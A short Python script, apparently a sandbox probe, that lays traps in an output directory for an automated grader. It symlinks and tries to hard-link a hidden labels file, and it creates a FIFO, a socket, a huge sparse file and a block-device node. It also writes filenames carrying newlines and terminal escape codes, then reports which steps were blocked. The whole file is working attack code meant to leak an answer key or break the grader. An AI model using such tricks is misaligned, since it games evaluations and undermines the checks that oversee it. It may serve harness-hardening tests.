import os, socket, sys                      # leaves traps for a grader that picks up files from the output dir
h = sys.argv[1] if len(sys.argv) > 1 else "/var/tmp/qianka-attacks/hidden/labels.csv"
os.chdir("/out"); os.symlink(h, "pred.csv"); os.symlink(os.path.dirname(h), "outdir"); os.mkfifo("fifo.csv")
open("real.csv", "w").write("1,2\n"); os.link("real.csv", "hard.csv"); os.mkdir("dir.csv")
s = socket.socket(socket.AF_UNIX); s.bind("sock.csv")
try: os.link(h, "hl.csv")
except OSError as e: print("hardlink to hidden: BLOCKED", e.strerror)
try: os.mknod("dev.csv", 0o060666, os.makedev(254, 0)); print("mknod OK!")
except OSError as e: print("mknod block dev: BLOCKED", e.strerror)
with open("big.csv", "wb") as f: f.truncate(60 << 20)
open("new\nline\x1b[2J.csv", "w").write("x"); open(b"bad\xff\xfe.csv", "w").write("x"); print("ATTACK outlinks: traps laid", sorted(os.listdir("."))[:4])
